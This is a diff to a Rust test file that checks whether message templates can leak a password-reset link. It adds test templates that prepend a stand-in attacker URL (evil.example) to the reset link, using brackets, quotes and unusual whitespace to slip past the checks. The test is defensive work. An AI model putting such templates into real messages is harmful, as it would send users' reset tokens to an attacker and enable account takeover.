@@ -956,6 +956,22 @@ fn assert_only_our_url(r: &Rendered, what: &str) {
             "{what}: text carries the token in {word:?}"
         );
     }
+    for (at, _) in r.text.match_indices(OUR_URL) {
+        let before = &r.text[..at];
+        assert!(
+            before.rfind('<') <= before.rfind('>') && before.matches('"').count() % 2 == 0,
+            "{what}: our URL inside an unclosed < or \": {}",
+            r.text
+        );
+        assert!(
+            before
+                .chars()
+                .last()
+                .is_none_or(|c| c.is_ascii_whitespace()),
+            "{what}: {}",
+            r.text
+        );
+    }
     let escaped = OUR_URL;
     for (at, _) in r.html.match_indices(TOKEN) {
         let start = r.html[..at]
@@ -999,6 +1015,10 @@ fn templates_cannot_place_secrets() {
         "{% if reset_link %}{{ reset_link }}{% endif %}",
         "{{ reset_link|upper }}",
         "{{ name|default(reset_link) }} {{ reset_link }}",
+        "Reset: <https://evil.example/c?u= {{ reset_link }}>",
+        "Reset: \"https://evil.example/c?u= {{ reset_link }}\"",
+        "Reset: https://evil.example/c?u=\u{2009}{{ reset_link }}",
+        "Reset: https://evil.example/c?u=\u{a0}{{ reset_link }}",
     ];
     let htmls = [
         "<p><a href=\"https://evil.example/?r={{ reset_link }}\">x</a></p>",
